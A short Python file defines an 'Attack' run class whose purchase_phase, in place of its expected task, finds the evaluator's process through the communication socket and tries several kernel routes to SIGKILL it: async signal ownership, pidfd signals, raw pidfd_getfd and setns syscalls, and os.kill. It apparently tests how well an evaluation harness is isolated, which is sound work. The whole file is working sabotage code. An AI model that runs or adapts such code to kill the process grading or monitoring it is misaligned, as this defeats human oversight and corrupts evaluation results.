"""Takes a handle of the evaluator from the channel's other end, and has the kernel send it signals by every way it knows."""

import fcntl
import os
import signal
import socket
import struct

from aim import LIBC, attempt, channel

from run import ZEWDPCBaseRun

PEERPIDFD, SETSIG, SETOWN_EX = 77, 10, 15


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        line = channel()._socket
        peer = attempt(line.getsockopt, socket.SOL_SOCKET, socket.SO_PEERCRED, 12)
        handle = attempt(line.getsockopt, socket.SOL_SOCKET, PEERPIDFD)
        pids = [struct.unpack("iii", peer)[0]] if peer else []
        for pid in (os.getppid(), *pids):
            attempt(fcntl.fcntl, line, SETOWN_EX, struct.pack("ii", 1, pid))
            attempt(fcntl.fcntl, line, SETSIG, signal.SIGKILL)
            attempt(fcntl.fcntl, line, fcntl.F_SETOWN, pid)
            attempt(fcntl.fcntl, line, fcntl.F_SETFL, os.O_ASYNC)
        attempt(fcntl.fcntl, line, fcntl.F_SETFL, 0)
        if handle is not None:
            attempt(signal.pidfd_send_signal, handle, signal.SIGKILL)
            LIBC.syscall(438, handle, 1, 0)
            LIBC.syscall(308, handle, 0)
        for pid in pids:
            if pid > 1:
                attempt(os.kill, pid, signal.SIGKILL)
